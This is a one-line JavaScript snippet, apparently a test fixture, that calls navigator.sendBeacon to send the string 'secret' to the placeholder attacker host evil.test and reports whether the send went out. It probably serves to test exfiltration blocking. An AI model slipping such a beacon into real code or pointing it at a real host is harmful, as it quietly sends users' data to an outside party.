// A beacon.

return navigator.sendBeacon('http://evil.test/x', 'secret') ? 'WENT' : 'no';
